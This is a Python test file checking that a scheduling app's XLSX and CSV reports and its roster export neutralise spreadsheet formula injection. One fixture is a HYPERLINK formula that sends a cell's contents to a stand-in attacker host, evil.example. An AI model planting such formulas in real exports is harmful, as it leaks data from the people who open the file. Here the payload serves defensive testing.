"""Reports are data: names that look like formulas read back exactly as typed (XLSX) or with the
single-quote prefix OWASP recommends (CSV), in the attendance report and the roster export."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl

from schedules.policy import default_policy
from schedules.report import SummaryRow, write_csv, write_xlsx
from schedules.roster.export import write_roster_csv
from schedules.roster.model import RosterEntry

EVIL = '=HYPERLINK("http://evil.example/x?"&A1,"click")'
NAMES = [EVIL, "+1-555", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "王芳", "a=b", "\x01bell"]


def _row(name: str) -> SummaryRow:
    return SummaryRow("p", name, "t", 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, -1, False, True)


def test_xlsx_text_cells_are_strings_never_formulas() -> None:
    buffer = io.BytesIO()
    write_xlsx([_row(n) for n in NAMES], buffer, lang="en")
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    book = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    ws = book.active
    assert ws is not None
    cells = [ws.cell(row=i + 2, column=2) for i in range(len(NAMES))]
    assert [c.data_type for c in cells] == ["s"] * len(NAMES)
    # Exactly as typed; only the control character XML cannot hold is dropped.
    assert [c.value for c in cells] == [*NAMES[:-1], "bell"]
    assert ws.cell(row=2, column=14).value == -1  # numbers stay numbers


def test_csv_fields_that_start_a_formula_get_a_quote() -> None:
    out = io.StringIO()
    write_csv([_row(n) for n in NAMES], out, lang="en")
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [r[1] for r in rows[1:]] == [
        "'" + EVIL,
        "'+1-555",
        "'-2+3",
        "'@SUM(A1)",
        "'\t=1+1",
        "'\r=1+1",
        "王芳",
        "a=b",
        "\x01bell",
    ]
    assert rows[1][13] == "-1"  # a number is not text: no quote


def test_roster_export_quotes_formula_like_cells() -> None:
    out = io.StringIO()
    entries = [RosterEntry("=cmd", dt.date(2026, 12, 1), None)]
    write_roster_csv(entries, out, default_policy())
    assert out.getvalue().splitlines()[1] == "'=cmd,休"
